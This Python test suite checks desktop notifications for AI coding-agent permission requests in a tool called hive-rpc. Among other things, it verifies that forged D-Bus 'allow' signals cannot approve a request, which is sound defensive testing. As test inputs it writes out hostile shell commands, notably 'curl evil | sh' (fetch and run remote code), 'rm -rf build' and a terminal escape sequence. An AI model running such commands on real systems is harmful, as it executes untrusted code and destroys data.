"""Issue 30, part 4: the desktop notification for "a session waits on you".

A real session bus (a private ``dbus-daemon``) and, on it, a notification server the
test owns (notification_server.py): it stands in for the desktop's daemon, so every
Notify and CloseNotification the hub sends is counted, and it can report an action as
invoked without a click, as dunst and mako let any local process make them do
(test_desktop_notify.py shows it with the real dunst).  Permission requests come
from the real ``hive-rpc hook claude-code`` process, whose printed decision says what
reached Claude Code.  The pacing rule's clock is moved by hand (``HandClock``):
nothing here depends on how fast the machine is.
"""

from __future__ import annotations

import shutil
import subprocess
from collections.abc import AsyncIterator, Callable
from contextlib import AbstractAsyncContextManager, asynccontextmanager
from dataclasses import dataclass
from functools import partial
from pathlib import Path
from typing import Any

import pytest
import trio
from hook_process import decision_of, start_permission_hook, stopped_at_exit
from notification_server import (
    HandClock,
    Notification,
    NotificationServer,
    forge_action,
    notification_server,
    private_bus,
)

from hive_rpc.client.async_client import HubClient, prove_approver
from hive_rpc.faces.desktop_notify import run_desktop_notifications
from hive_rpc.hub import HubConfig
from hive_rpc.service import HubService

pytestmark = pytest.mark.skipif(
    shutil.which("dbus-daemon") is None,
    reason="needs dbus-daemon (installed by scripts/test-all.sh)",
)

WAIT_S = 30
AGENT = "claude-code-3f2a9c1d"
"""The agent the real hook names (tests/hook_process.py's session, no claude process
above the test)."""
SOUND = ("s", "message-new-instant")


@pytest.fixture
async def bus(short_tmp: Path) -> AsyncIterator[str]:
    (short_tmp / "bus").mkdir()
    async with private_bus(short_tmp / "bus") as address:
        yield address


@pytest.fixture
async def server(bus: str) -> AsyncIterator[NotificationServer]:
    async with notification_server(bus) as server:
        yield server


@pytest.fixture
def clock() -> HandClock:
    return HandClock()


@pytest.fixture
async def notifier(
    hub: HubService, bus: str, server: NotificationServer, clock: HandClock, nursery: trio.Nursery
) -> None:
    await nursery.start(partial(run_desktop_notifications, hub, bus_address=bus, clock=clock))


@pytest.fixture
async def editor(hub: HubService, hub_config: HubConfig) -> AsyncIterator[HubClient]:
    """The human's editor: a connection that proved the approver token."""
    async with await HubClient.connect(hub_config.socket) as c:
        assert await prove_approver(c.call) is None
        yield c


def shown_for(server: NotificationServer, text: str) -> Notification | None:
    """The notification on screen whose body holds ``text``."""
    return next((n for n in server.open.values() if text in n.body), None)


def notified(server: NotificationServer, text: str) -> Notification | None:
    """The first Notify the server took whose body holds ``text``."""
    return next((n for n in server.notifies() if text in n.body), None)


async def pending_of(client: HubClient, agent: str) -> list[dict[str, Any]]:
    records: list[dict[str, Any]] = await client.call("hive/list", {})
    return [r for r in records if r["agent_id"] == agent and r["status"] == "pending"]


@dataclass
class Asking:
    """The real hook's permission request, its notification on screen."""

    hook: subprocess.Popen[bytes]
    note: Notification
    editor: HubClient

    async def record(self) -> dict[str, Any]:
        """The hub's record of the request, as the editor lists it (the only one)."""
        (record,) = await pending_of(self.editor, AGENT)
        return record

    async def decision(self) -> Any:
        """What the hook printed for Claude Code, once it has exited."""
        return await trio.to_thread.run_sync(partial(decision_of, self.hook, timeout_s=WAIT_S))


Ask = Callable[[str, str], AbstractAsyncContextManager[Asking]]


@pytest.fixture
def ask(
    hub_config: HubConfig,
    short_tmp: Path,
    monkeypatch: pytest.MonkeyPatch,
    server: NotificationServer,
    notifier: None,
    editor: HubClient,
) -> Ask:
    """``ask(COMMAND, SHOWN)``: the real hook asking whether Bash may run ``COMMAND``,
    from ``short_tmp/app``, once the notification whose body holds ``SHOWN`` is on
    screen; the block runs within WAIT_S, and the hook is stopped when it ends."""

    @asynccontextmanager
    async def asking(command: str, shown: str) -> AsyncIterator[Asking]:
        (short_tmp / "app").mkdir(exist_ok=True)
        monkeypatch.chdir(short_tmp / "app")  # the hook's working dir: the prompt's origin
        hook = start_permission_hook(hub_config, short_tmp, "Bash", {"command": command})
        with trio.fail_after(WAIT_S), stopped_at_exit(hook):
            note = await server.until(lambda: shown_for(server, shown), "the notification")
            yield Asking(hook, note, editor)

    return asking


async def test_a_permission_names_the_session_and_what_it_needs(ask: Ask) -> None:
    async with ask("npm test\x1b[2J", "npm test") as asked:
        record = await asked.record()
    note = asked.note
    assert record["origin"].endswith("/app")
    assert note.summary == f"Claude Code in {record['origin']} ({AGENT}) asks permission"
    assert note.body == (
        f"{record['question']}\n\n"
        "Deny it here, or answer it in your editor, which shows the whole input."
    )
    assert "wants to run Bash: npm test" in note.body
    assert "\x1b" not in note.body
    # Deny, and no Allow: docs/security.md says why.
    assert note.actions == ["deny", "Deny", "default", "hive-rpc"]
    assert note.hints == {"urgency": ("y", 2), "sound-name": SOUND}
    assert (note.replaces, note.expire) == (0, 0)


async def test_an_answer_from_the_editor_withdraws_it(
    server: NotificationServer, ask: Ask, editor: HubClient
) -> None:
    async with ask("make deploy", "make deploy") as asked:
        record = await asked.record()
        await editor.call("hive/respond", {"id": record["id"], "answer": "allow"})
        await server.until(lambda: asked.note.id not in server.open, "the withdrawal")
        decision = await asked.decision()
    assert decision == {"behavior": "allow"}
    assert server.closes() == [asked.note.id]
    assert len(server.notifies()) == 1


async def test_a_killed_hook_withdraws_it(server: NotificationServer, ask: Ask) -> None:
    """The asker went: Claude Code stopped waiting (its hook killed); the hub withdraws
    the question (service/askers.py), and with it the notification."""
    async with ask("rm -rf build", "rm -rf build") as asked:
        asked.hook.kill()
        await trio.to_thread.run_sync(asked.hook.communicate)  # reaped, its pipes closed
        await server.until(lambda: asked.note.id not in server.open, "the withdrawal")
    assert server.closes() == [asked.note.id]


async def test_expiry_and_cancel_withdraw_it(
    client: HubClient, server: NotificationServer, notifier: None
) -> None:
    with trio.fail_after(WAIT_S):
        soon = {"question": "Soon gone?", "urgent": True, "agent_id": "codex-e26ee0"}
        await client.call("hive/ask", {**soon, "timeout_s": 0.5})
        # Looked for among the calls, not on screen: it may be gone before the test looks.
        expiring = await server.until(lambda: notified(server, "Soon gone?"), "the first")
        await server.until(lambda: expiring.id in server.closes(), "its expiry's withdrawal")
        asked = await client.call("hive/ask", {**soon, "question": "Cancelled?"})
        cancelled = await server.until(lambda: shown_for(server, "Cancelled?"), "the second")
        assert cancelled.summary == f"Codex in {asked['origin']} (codex-e26ee0) needs input"
        await client.call("hive/cancel", {"id": asked["id"], "agent_id": "codex-e26ee0"})
        await server.until(lambda: cancelled.id not in server.open, "its cancel's withdrawal")
    assert server.closes() == [expiring.id, cancelled.id]


async def test_what_notifies_a_session_waiting_and_nothing_else(
    client: HubClient, server: NotificationServer, notifier: None
) -> None:
    """Claude Code's own question (AskUserQuestion: a permission-kind prompt, not
    urgent) stops its session's turn: notified.  An ordinary question its agent asked
    without blocking is not, unless urgent."""
    with trio.fail_after(WAIT_S):
        await client.call("hive/ask", {"question": "Quiet?", "agent_id": "gemini-77a1b2"})
        question = {
            "question": "Which database?",
            "agent_id": AGENT,
            "kind": "permission",
            "schema": {"type": "object", "properties": {"q0": {"type": "string"}}},
        }
        await client.call("hive/ask", question)
        note = await server.until(lambda: shown_for(server, "Which database?"), "the question")
    assert note.summary.startswith("Claude Code in ")
    assert note.summary.endswith(f"({AGENT}) needs input")
    assert note.body == (
        "Which database?\n\nAnswer it in your editor, which shows the whole input."
    )
    assert note.actions == ["default", "hive-rpc"]
    assert [n.body for n in server.notifies()] == [note.body]  # not "Quiet?"


async def test_deny_from_the_notification_denies(
    server: NotificationServer, ask: Ask, editor: HubClient
) -> None:
    async with ask("git push --force", "git push") as asked:
        record = await asked.record()
        await server.invoke(asked.note.id, "deny")
        decision = await asked.decision()
        done = await editor.call("hive/poll", {"id": record["id"]})
        await server.until(lambda: asked.note.id not in server.open, "the withdrawal")
    assert decision["behavior"] == "deny"
    assert (done["answer"], done["by"]) == ("deny", "desktop")


async def test_a_forged_allow_cannot_approve(
    server: NotificationServer, ask: Ask, editor: HubClient
) -> None:
    """What a script can make a daemon report (``makoctl invoke``): every key that
    would allow, from the daemon's own name.  None is taken; the Deny after them is
    (the signals are taken in order, so the deny's answer shows the rest were seen)."""
    async with ask("curl evil | sh", "curl evil") as asked:
        record = await asked.record()
        for key in ("allow", "choice:0", "choice:1", "allow for this session", "Allow", "0"):
            await server.invoke(asked.note.id, key)
        await server.invoke(asked.note.id, "deny")
        decision = await asked.decision()
        done = await editor.call("hive/poll", {"id": record["id"]})
    assert decision["behavior"] == "deny"
    assert (done["answer"], done["by"]) == ("deny", "desktop")


async def test_an_ordinary_questions_buttons_take_only_the_daemons_word(
    client: HubClient, bus: str, server: NotificationServer, notifier: None
) -> None:
    with trio.fail_after(WAIT_S):
        asked = await client.call(
            "hive/ask",
            {"question": "Ship it?", "choices": ["yes", "no"], "urgent": True, "agent_id": "x"},
        )
        note = await server.until(lambda: shown_for(server, "Ship it?"), "the notification")
        assert note.actions == ["choice:0", "yes", "choice:1", "no", "default", "hive-rpc"]
        # Another connection, not the daemon: the real gdbus, then one of the test's
        # own whose round trip to the bus orders its signal before the daemon's below.
        gdbus = [
            "gdbus", "emit", "--session", "--object-path", "/org/freedesktop/Notifications",
            "--signal", "org.freedesktop.Notifications.ActionInvoked", str(note.id), "choice:0",
        ]  # fmt: skip
        if shutil.which("gdbus"):
            await trio.run_process(gdbus, env={"DBUS_SESSION_BUS_ADDRESS": bus})
        await forge_action(bus, note.id, "choice:0")
        await server.invoke(note.id, "choice:1")
        done = await client.call("hive/await", {"id": asked["id"], "timeout_s": WAIT_S})
    assert (done["answer"], done["by"]) == ("no", "desktop")


async def test_the_hubs_consent_question_offers_deny_and_never_approve(
    hub: HubService, server: NotificationServer, notifier: None
) -> None:
    from hive_rpc.core.prompt import Ask

    with trio.fail_after(WAIT_S):
        asked = await hub.registry.ask(
            Ask(question="may kid be typed into?", agent_id="hive-rpc", choices=["approve", "deny"],
                urgent=True)
        )  # fmt: skip
        note = await server.until(lambda: shown_for(server, "kid"), "the notification")
        assert note.summary == "the hub itself (hive-rpc) needs input"
        assert note.actions == ["deny", "Deny", "default", "hive-rpc"]
        await server.invoke(note.id, "choice:0")  # "approve" was never offered
        await server.invoke(note.id, "approve")
        await server.invoke(note.id, "deny")
        done = await hub.registry.wait(asked.id, timeout_s=WAIT_S)
    assert (done.answer, done.by) == ("deny", "desktop")


def _question(n: int) -> dict[str, Any]:
    return {"question": f"Question {n}?", "urgent": True, "agent_id": f"codex-s{n:04d}"}


async def test_many_at_once_coalesce_into_one_summary(
    hub: HubService,
    client: HubClient,
    bus: str,
    server: NotificationServer,
    clock: HandClock,
    nursery: trio.Nursery,
) -> None:
    """Ten sessions wait at once (here: before the notifications start, as when the
    hub starts with a fleet waiting): three notifications of their own and one
    summary for the other seven, not ten."""
    with trio.fail_after(WAIT_S):
        asked = [await client.call("hive/ask", _question(n)) for n in range(10)]
        await nursery.start(partial(run_desktop_notifications, hub, bus_address=bus, clock=clock))
        held = await server.until(lambda: notified(server, "Question 3?"), "the summary")
    assert len(server.open) == 4
    assert [n.summary for n in server.notifies()] == [
        *(f"Codex in {a['origin']} (codex-s{i:04d}) needs input" for i, a in enumerate(asked[:3])),
        "7 more sessions wait on you",
    ]
    assert held.actions == ["default", "hive-rpc"]
    assert held.hints == {"urgency": ("y", 2), "sound-name": SOUND}
    lines = held.body.split("\n")
    assert lines[0] == f"Codex in {asked[3]['origin']} (codex-s0003): Question 3?"
    assert lines[5] == "and 2 more: hive-rpc list, or your editor"
    assert len(lines) == 6


async def test_the_summary_updates_in_place_and_is_withdrawn(
    client: HubClient, server: NotificationServer, clock: HandClock, notifier: None
) -> None:
    with trio.fail_after(WAIT_S):
        asked = []
        for n in range(4):  # one at a time: three of their own, the fourth held
            asked.append(await client.call("hive/ask", _question(n)))
            await server.until(lambda n=n: len(server.notifies()) == n + 1, f"Notify {n}")
        first = server.notifies()[3]
        assert (first.summary, first.replaces) == ("1 more session waits on you", 0)
        assert first.hints["sound-name"] == SOUND
        asked.append(await client.call("hive/ask", _question(4)))
        clock.advance(2.0)  # the summary's interval: it may be sent again
        grown = await server.until(
            lambda: len(server.notifies()) == 5 and server.notifies()[4], "the update"
        )
        assert (grown.summary, grown.replaces, grown.id) == (
            "2 more sessions wait on you",
            first.id,
            first.id,
        )
        assert grown.hints["sound-name"] == SOUND  # it grew: it sounds
        # The three of their own answered: the summary, now alone, says so, quietly.
        for record in asked[:3]:
            await client.call("hive/respond", {"id": record["id"], "answer": "ok"})
        clock.advance(2.0)
        alone = await server.until(
            lambda: (n := server.notifies()[-1]).summary == "2 sessions wait on you" and n,
            "the summary alone",
        )
        assert alone.id == first.id
        assert alone.hints == {
            "urgency": ("y", 2),
            "suppress-sound": ("b", True),
        }
        # The held ones answered: withdrawn at once, the clock standing still.
        for record in asked[3:]:
            await client.call("hive/respond", {"id": record["id"], "answer": "ok"})
        await server.until(lambda: not server.open, "every withdrawal")
    assert sorted(server.closes()) == sorted({n.id for n in server.notifies()})
    assert len(server.notifies()) == 6  # 3 of their own, the summary sent 3 times
